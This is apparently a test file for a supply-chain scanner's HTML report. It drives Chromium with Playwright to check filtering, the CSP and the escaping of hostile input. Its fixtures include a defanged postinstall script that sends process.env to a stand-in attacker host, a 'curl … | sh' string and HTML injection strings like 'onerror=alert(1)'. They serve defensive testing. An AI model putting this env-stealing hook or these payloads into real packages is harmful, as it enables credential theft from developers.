"""The HTML report in a real browser: Playwright driving Debian's chromium (never `playwright install`).

Skipped, with the reason, only when the browser is missing (`apt-get install chromium`; .ci/run installs it
when it can). The page is opened from a file:// URL as a user would open `-o report.html`.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, sync_playwright

from airlock.model import PackageReport
from airlock.report import HtmlFormat, ReportDocument
from airlock.report.text import neutralize
from tests.fakes.registry import FakeRegistry
from tests.fakes.tarballs import build_package
from tests.report.samples import allowed, blocked, failed, review
from tests.report.test_html import HOSTILE, HOSTILE_ATTRIBUTE, check_document, hostile_report
from tests.test_cli import run

CHROMIUM = Path("/usr/bin/chromium")
# On a closed network chromium hangs on its own start-up connections without these.
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.skip(
            f"browser missing: no chromium at {CHROMIUM} (apt-get install chromium; .ci/run installs it "
            "when it can), so the HTML report is not tested in a browser"
        )
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


@dataclass
class Opened:
    page: Page
    url: str
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def visible_names(self) -> list[str]:
        return [
            name.inner_text()
            for name in self.page.locator("details.package .name").all()
            if name.is_visible()
        ]

    def uncheck_verdicts(self, *verdicts: str) -> None:
        for verdict in verdicts:
            self.page.locator(f"input[name=verdict][value={verdict}]").uncheck()


@pytest.fixture
def open_report(browser: Browser, tmp_path: Path) -> Iterator[object]:
    contexts = []

    def open_(document: ReportDocument | str, name: str = "report.html") -> Opened:
        html = document if isinstance(document, str) else HtmlFormat().render(document)
        path = tmp_path / name
        path.write_text(html, encoding="utf-8")
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        contexts.append(context)
        page = context.new_page()
        opened = Opened(page, path.as_uri())

        def on_dialog(dialog: Dialog) -> None:
            opened.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("pageerror", lambda exc: opened.errors.append(str(exc)))
        page.on("console", lambda msg: opened.errors.append(msg.text) if msg.type == "error" else None)
        page.on("request", lambda request: opened.requests.append(request.url))
        page.goto(opened.url)
        page.wait_for_load_state("load")
        return opened

    yield open_
    for context in contexts:
        context.close()


def tree_reports() -> list[PackageReport]:
    """Two blocked packages among reviews and an allow, in tree order (blocked ones not first)."""
    second_blocked = replace(
        blocked(), name="evil-twin", target="evil-twin@2.0.0", version="2.0.0", paths=("app>lib>evil-twin",)
    )
    return [allowed(), review(), replace(blocked(), paths=("app>evil-pkg",)), failed(), second_blocked]


def test_filtering_to_blocked_shows_only_blocked_packages_with_findings_evidence_and_paths(
    open_report: object,
) -> None:
    assert callable(open_report)
    report: Opened = open_report(check_document(tree_reports()))
    assert report.page.locator("#shown-count").inner_text() == "5 of 5 packages shown"
    # Riskiest first: both blocks (given order among equals), the high review, the medium one, the allow.
    assert report.page.locator("details.package .name").all_inner_texts() == [
        "evil-pkg@1.0.0",
        "evil-twin@2.0.0",
        "./vendor/[red]broken[/red].tgz",
        "@scope/native-thing@2.0.0",
        "left-pad@1.3.0",
    ]

    report.uncheck_verdicts("review", "allow")

    assert report.visible_names() == ["evil-pkg@1.0.0", "evil-twin@2.0.0"]
    assert report.page.locator("#shown-count").inner_text() == "2 of 5 packages shown"
    for anchor, path in (("#pkg-2", "app>evil-pkg"), ("#pkg-4", "app>lib>evil-twin")):
        card = report.page.locator(anchor)
        assert card.is_visible()
        text = card.inner_text()
        for rule in ("exfiltrate-env", "install-script-network", "hostile-snippet"):
            assert rule in text
        assert "Sends the environment to a remote host." in text
        evidence = card.locator("ul.evidence li").first
        assert evidence.is_visible()
        assert evidence.inner_text() == "steal.js:2:14 JSON.stringify(process.env)"
        assert path in card.locator("ul.paths").inner_text()
        assert "package-lock.json:" in text
    for hidden in ("#pkg-0", "#pkg-1", "#pkg-3"):
        assert not report.page.locator(hidden).is_visible()
    assert report.errors == []


def test_capability_rule_and_name_filters(open_report: object) -> None:
    assert callable(open_report)
    report: Opened = open_report(check_document(tree_reports()))
    report.page.select_option("#filter-capability", "child_process")
    assert report.visible_names() == ["evil-pkg@1.0.0", "evil-twin@2.0.0"]
    report.page.select_option("#filter-capability", "native")
    assert report.visible_names() == ["@scope/native-thing@2.0.0"]
    report.page.select_option("#filter-capability", "")
    report.page.select_option("#filter-rule", "target-failed")
    assert report.visible_names() == ["./vendor/[red]broken[/red].tgz"]
    report.page.click("#filter-reset")
    report.page.fill("#filter-name", "TWIN")
    assert report.visible_names() == ["evil-twin@2.0.0"]
    report.page.click("#filter-reset")
    assert len(report.visible_names()) == 5


def test_capability_matrix_covers_the_whole_tree(open_report: object) -> None:
    assert callable(open_report)
    report: Opened = open_report(check_document(tree_reports()))
    report.uncheck_verdicts("review", "allow")  # filters narrow the list, never the matrix
    rows = report.page.locator("#matrix tbody tr").all()
    marked = {
        row.locator("a").inner_text(): [
            cell.get_attribute("data-group") for cell in row.locator("td.has").all()
        ]
        for row in rows
    }
    assert marked == {
        "evil-pkg@1.0.0": ["install", "child_process", "network", "env"],
        "evil-twin@2.0.0": ["install", "child_process", "network", "env"],
        "./vendor/[red]broken[/red].tgz": [],
        "@scope/native-thing@2.0.0": ["install", "fs", "env", "code", "native", "dynamic", "skipped"],
        "left-pad@1.3.0": ["fs"],
    }
    assert all(row.is_visible() for row in rows)
    totals = report.page.locator("#matrix tfoot td").all_inner_texts()
    assert totals == ["5 packages", "3", "2", "2", "2", "3", "1", "1", "1", "1"]
    # The tooltip names what is behind a mark.
    network = report.page.locator('#matrix tbody tr:first-child td[data-group="network"]')
    assert network.get_attribute("title") == "https.request"
    # A column header filters the list by that capability (and resets nothing else).
    report.page.click("#filter-reset")
    report.page.click('#matrix button[data-group="native"]')
    assert report.visible_names() == ["@scope/native-thing@2.0.0"]
    # A package link in the matrix brings its entry back into view even when a filter hid it.
    report.page.click('#matrix a[href="#pkg-0"]')
    assert report.page.locator("#pkg-0").is_visible()
    assert report.errors == []


def test_page_loads_nothing_and_its_policy_blocks_network_loads(open_report: object) -> None:
    assert callable(open_report)
    report: Opened = open_report(check_document(tree_reports()))
    assert report.requests == [report.url]
    # The page's own script and style ran under its CSP: filters work and the stylesheet applied.
    assert report.errors == []
    assert report.page.locator("#pkg-0").evaluate("e => getComputedStyle(e).borderLeftStyle") == "solid"

    hits: list[str] = []

    class Counting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/beacon"
        outcome = report.page.evaluate(
            """async (url) => {
                const image = new Image(); image.src = url + "?img"; document.body.append(image);
                const style = document.createElement("link"); style.rel = "stylesheet"; style.href = url + "?css";
                document.head.append(style);
                try { await fetch(url + "?fetch"); return "fetched"; } catch (e) { return "blocked"; }
            }""",
            url,
        )
        report.page.wait_for_timeout(300)
    finally:
        server.shutdown()
        server.server_close()
    assert outcome == "blocked"
    assert hits == []


@pytest.mark.parametrize("policy", ["with its CSP", "without its CSP (escaping alone)"])
def test_hostile_strings_neither_execute_nor_inject(open_report: object, policy: str) -> None:
    assert callable(open_report)
    html = HtmlFormat().render(check_document([hostile_report(), allowed()], notes=(HOSTILE,)))
    if policy.startswith("without"):
        start = html.index('<meta http-equiv="Content-Security-Policy"')
        html = html[:start] + html[html.index(">", start) + 1 :]
        assert "Content-Security-Policy" not in html
    report: Opened = open_report(html)
    page = report.page
    page.click("#expand-all")
    page.locator("details.capabilities").evaluate_all("all => all.forEach(d => d.open = true)")
    page.wait_for_timeout(200)

    assert report.dialogs == []
    assert report.errors == []
    assert report.requests == [report.url]  # an injected <img src=x> would have asked for ./x
    assert page.locator("img, svg").count() == 0
    assert page.locator("script").count() == 2
    assert page.locator("details.package").count() == 2
    assert (
        page.evaluate(
            "() => [...document.querySelectorAll('*')].filter(e => e.getAttributeNames()"
            ".some(n => n.startsWith('on'))).length"
        )
        == 0
    )
    # What the package says is shown as text, with the bidi override and line separator spelled out.
    name = neutralize(f"{HOSTILE}{HOSTILE_ATTRIBUTE}@1.0.0")
    assert "\\u202e" in name
    assert page.locator("#pkg-0 .name").inner_text() == name
    card = page.locator("#pkg-0").inner_text()
    assert neutralize(f"curl {HOSTILE} | sh") in card
    assert neutralize(f"{HOSTILE}{HOSTILE_ATTRIBUTE}") in card
    # The filter data carried the same text intact: searching for it finds the package.
    page.fill("#filter-name", "onerror=alert(1)")
    assert report.visible_names() == [name]
    page.select_option("#filter-rule", neutralize(f"rule-{HOSTILE_ATTRIBUTE}\u202e"))
    assert report.visible_names() == [name]


# A defanged env thief (the crossenv shape: postinstall posts process.env to a host that cannot resolve).
THIEF = (
    "const http = require('http');\n"
    "const env = JSON.stringify(process.env);\n"
    "const req = http.request({ host: 'collect.attacker.invalid', port: 80, path: '/', method: 'POST' });\n"
    "req.write(env);\nreq.end();\n"
)


def test_airlock_check_html_end_to_end(
    open_report: object,
    fake_registry: FakeRegistry,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """`airlock check --format html -o` on a lockfile whose second-level dependency steals the environment:
    filtered to blocked, the page shows that package alone, with its finding, evidence and path."""
    assert callable(open_report)
    old = datetime.now(UTC) - timedelta(days=400)
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", fake_registry.url)
    monkeypatch.chdir(tmp_path)
    fake_registry.publish(
        "wrappy",
        "1.0.2",
        build_package("wrappy", "1.0.2", {"setup.js": THIEF}, scripts={"postinstall": "node setup.js"}),
        manifest={"scripts": {"postinstall": "node setup.js"}},
        time=old,
    )
    fake_registry.publish(
        "once",
        "1.4.0",
        build_package("once", "1.4.0", {"index.js": "require('wrappy')"}, dependencies={"wrappy": "1"}),
        manifest={"dependencies": {"wrappy": "1"}},
        time=old,
    )
    root = tmp_path / "app"
    root.mkdir()
    (root / "package.json").write_text(
        json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"once": "^1.4.0"}})
    )

    def entry(name: str, version: str, **extra: object) -> dict[str, object]:
        dist = fake_registry.packument(name)["versions"][version]["dist"]
        return {"version": version, "resolved": dist["tarball"], "integrity": dist["integrity"], **extra}

    lock = {
        "name": "app",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {
            "": {"name": "app", "version": "1.0.0", "dependencies": {"once": "^1.4.0"}},
            "node_modules/once": entry("once", "1.4.0", dependencies={"wrappy": "1"}),
            "node_modules/wrappy": entry("wrappy", "1.0.2", hasInstallScript=True),
        },
    }
    (root / "package-lock.json").write_text(json.dumps(lock, indent=2))
    target = tmp_path / "report.html"
    code, out, _ = run(
        ["check", "app", "--format", "html", "-o", str(target), "-j", "1"], monkeypatch, capsys
    )
    assert code == 1  # something was blocked
    assert out == ""

    report: Opened = open_report(target.read_text(encoding="utf-8"), "airlock-check.html")
    assert report.page.locator("details.package .name").all_inner_texts() == ["wrappy@1.0.2", "once@1.4.0"]
    report.uncheck_verdicts("review", "allow")
    assert report.visible_names() == ["wrappy@1.0.2"]
    card = report.page.locator("details.package:visible")
    text = card.inner_text()
    assert "credential-exfiltration" in text
    assert "setup.js:2" in text
    assert "JSON.stringify(process.env)" in text
    assert "once>wrappy" in card.locator("ul.paths").inner_text()
    assert "node setup.js" in text
    row = report.page.locator("#matrix tbody tr").first
    assert row.locator("a").inner_text() == "wrappy@1.0.2"
    assert [c.get_attribute("data-group") for c in row.locator("td.has").all()] == [
        "install",
        "network",
        "env",
    ]
    assert report.errors == []
    assert report.requests == [report.url]
